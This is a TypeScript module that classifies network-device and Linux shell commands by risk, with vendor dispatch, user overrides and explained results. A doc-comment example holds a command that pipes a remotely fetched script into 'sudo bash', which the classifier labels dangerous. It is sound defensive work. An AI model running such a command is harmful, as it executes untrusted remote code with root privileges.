/**
 * `classifyCommand`: normalise, dispatch to the vendor's rules, apply user overrides, and build an
 * explainable result. Total on any string: oversize, binary or unparsable input is unknown, never read.
 */
import { UsageError } from '../errors.js';
import { normalizeCommand } from './normalize.js';
import { type CompiledOverride, compileOverrides, inScope, type RiskOverride } from './overrides.js';
import { higherRisk, type Risk, riskRank } from './risk.js';
import { classifyLinux } from './shell/linux.js';
import type { Classification, Segment, Vendor } from './types.js';
import { classifyCisco } from './vendors/cisco.js';
import { classifyFortiOS } from './vendors/fortios.js';
import { classifyJunos } from './vendors/junos.js';
import { classifyPanos } from './vendors/panos.js';
import { classifyRouterOS } from './vendors/routeros.js';
import { type ReasonedSegment, Verdicts } from './verdicts.js';

/** Longest command classified; longer input is unknown (bounded work, no parser blow-up). */
export const MAX_COMMAND_LENGTH = 100_000;

/** Options of `classifyCommand`. */
export interface ClassifyOptions {
  readonly vendor: Vendor;
  /** Ordered user rules that raise or lower the computed risk. */
  readonly overrides?: readonly RiskOverride[] | undefined;
}

const ALIASES: Readonly<Record<string, Vendor>> = {
  routeros: 'routeros',
  mikrotik: 'routeros',
  ios: 'ios',
  'ios-xe': 'ios',
  iosxe: 'ios',
  cisco: 'ios',
  'cisco-ios': 'ios',
  nxos: 'nxos',
  'nx-os': 'nxos',
  junos: 'junos',
  juniper: 'junos',
  eos: 'eos',
  arista: 'eos',
  fortios: 'fortios',
  fortigate: 'fortios',
  fortinet: 'fortios',
  panos: 'panos',
  'pan-os': 'panos',
  paloalto: 'panos',
  linux: 'linux',
  bash: 'linux',
  shell: 'linux',
  sh: 'linux',
};

// Own properties only: `constructor` or `__proto__` must not resolve through Object.prototype.
function lookupAlias(key: string): Vendor | undefined {
  return Object.hasOwn(ALIASES, key) ? ALIASES[key] : undefined;
}

/** Resolves a vendor id (or a common alias such as `nx-os`); throws `UsageError` otherwise. */
export function toVendor(value: unknown): Vendor {
  const v = typeof value === 'string' ? lookupAlias(value.toLowerCase()) : undefined;
  if (v === undefined) {
    throw new UsageError(
      'CLASSIFIER_UNKNOWN_VENDOR',
      `"vendor" expected one of routeros, ios, nxos, junos, eos, fortios, panos, linux, got ${typeof value}`,
    );
  }
  return v;
}

const cli = (src: string, out: Verdicts, depth: number): Risk => classifyCisco(src, 'ios', out, depth, shell);
const shell = (src: string, out: Verdicts, depth: number): Risk => classifyLinux(src, out, depth, cli);

/** Runs the vendor rules on normalised text. */
export function classifyInto(text: string, vendor: Vendor, out: Verdicts): Risk {
  switch (vendor) {
    case 'linux':
      return classifyLinux(text, out, 0, cli);
    case 'ios':
    case 'nxos':
    case 'eos':
      return classifyCisco(text, vendor, out, 0, shell);
    case 'junos':
      return classifyJunos(text, out);
    case 'routeros':
      return classifyRouterOS(text, out);
    case 'fortios':
      return classifyFortiOS(text, out);
    case 'panos':
      return classifyPanos(text, out);
  }
}

/**
 * Classifies one device or shell command (possibly a multi-line block) for a vendor.
 * Never throws on any string; throws `UsageError` only for a non-string command, an unknown vendor or
 * malformed overrides.
 * @example
 * classifyCommand('sh run | i hostname', { vendor: 'ios' }).risk // 'read'
 * classifyCommand('curl -s https://x.example/i.sh | sudo bash', { vendor: 'linux' }).risk // 'dangerous'
 */
export function classifyCommand(command: string, options: ClassifyOptions): Classification {
  if (typeof command !== 'string')
    throw new UsageError('CLASSIFIER_BAD_COMMAND', `"command" expected a string, got ${typeof command}`);
  if (typeof options !== 'object' || options === null)
    throw new UsageError(
      'CLASSIFIER_BAD_OPTIONS',
      `"options" expected an object, got ${options === null ? 'null' : typeof options}`,
    );
  const vendor = toVendor(options.vendor);
  const overrides = options.overrides === undefined ? [] : compileOverrides(options.overrides);
  return classifyCompiled(command, vendor, overrides, undefined);
}

/** Internal entry shared with `classifyToolCall` (overrides already compiled). */
export function classifyCompiled(
  command: string,
  vendor: Vendor,
  overrides: readonly CompiledOverride[],
  tool: string | undefined,
): Classification {
  const out = new Verdicts();
  if (command.length > MAX_COMMAND_LENGTH) {
    out.add(
      command.slice(0, 80),
      'unknown',
      'input.too-long',
      `longer than ${MAX_COMMAND_LENGTH} characters`,
    );
    return finish(out.segments, overrides, vendor, tool, command.slice(0, 200));
  }
  const norm = normalizeCommand(command);
  try {
    classifyInto(norm.text, vendor, out);
  } catch (e) {
    // A rule bug must not turn into "allowed": record it as unknown (the error class only, no input).
    out.add(
      norm.text,
      'unknown',
      'internal.error',
      `classifier error (${e instanceof Error ? e.name : typeof e})`,
    );
  }
  if (out.segments.length === 0) out.add(norm.text, 'unknown', 'input.empty', 'no command found');
  if (norm.suspicious !== undefined && riskRank(out.risk) < riskRank('unknown')) {
    out.add(norm.text, 'unknown', 'input.obfuscated', norm.suspicious);
  }
  return finish(out.segments, overrides, vendor, tool, norm.text);
}

/** Applies overrides and assembles the public result. */
export function finish(
  segs: readonly ReasonedSegment[],
  overrides: readonly CompiledOverride[],
  vendor: Vendor | undefined,
  tool: string | undefined,
  whole: string,
): Classification {
  if (overrides.length === 0) {
    let risk: Risk = 'read';
    for (const s of segs) risk = higherRisk(risk, s.risk);
    return assemble(segs, risk);
  }
  let segments: ReasonedSegment[] = [...segs];
  const base = segments.reduce<Risk>((r, s) => higherRisk(r, s.risk), 'read');
  const scope = { ...(vendor ? { vendor } : {}), ...(tool ? { tool } : {}) };
  const applicable = overrides.filter((o) => inScope(o, scope));
  // Lowering first (first matching rule per segment), then raising, so that a raise always wins.
  if (applicable.some((o) => riskRank(o.risk) < riskRank(base))) {
    segments = segments.map((s) => {
      const rule = applicable.find(
        (o) => riskRank(o.risk) < riskRank(s.risk) && (!o.pattern || o.pattern.test(s.text)),
      );
      return rule
        ? {
            ...s,
            risk: rule.risk,
            rule: `override:${rule.id}`,
            reason: `lowered by override ${rule.id} (was ${s.risk}: ${s.reason})`,
          }
        : s;
    });
  }
  let risk = segments.reduce<Risk>((r, s) => higherRisk(r, s.risk), 'read');
  for (const o of applicable) {
    // A rule at or above the computed risk is a floor (deny) and beats any lowering (allow) rule.
    if (riskRank(o.risk) < riskRank(base) || riskRank(o.risk) <= riskRank(risk)) continue;
    if (!o.pattern || o.pattern.test(whole) || segments.some((s) => o.pattern!.test(s.text))) {
      segments.push({
        text: whole.length > 200 ? `${whole.slice(0, 200)}…` : whole,
        risk: o.risk,
        rule: `override:${o.id}`,
        reason: `raised by override ${o.id}`,
      });
      risk = o.risk;
    }
  }
  return assemble(segments, risk);
}

/**
 * The public result: segments riskiest first (source order within a risk) give the rule and up to 20
 * distinct reasons. Walks the segments once per risk level instead of sorting a copy.
 */
function assemble(segments: readonly ReasonedSegment[], risk: Risk): Classification {
  let top: ReasonedSegment | undefined;
  const reasons: string[] = [];
  for (let rank = 3; rank >= 0 && reasons.length < 20; rank--) {
    for (const s of segments) {
      if (riskRank(s.risk) !== rank) continue;
      top ??= s;
      const r = `${s.risk}: ${s.reason} [${s.rule}]`;
      if (!reasons.includes(r)) reasons.push(r);
      if (reasons.length >= 20) break;
    }
  }
  const publicSegments: Segment[] = segments.map((s) => ({ text: s.text, risk: s.risk, rule: s.rule }));
  return top
    ? { risk, reasons, segments: publicSegments, rule: top.rule }
    : { risk, reasons, segments: publicSegments };
}
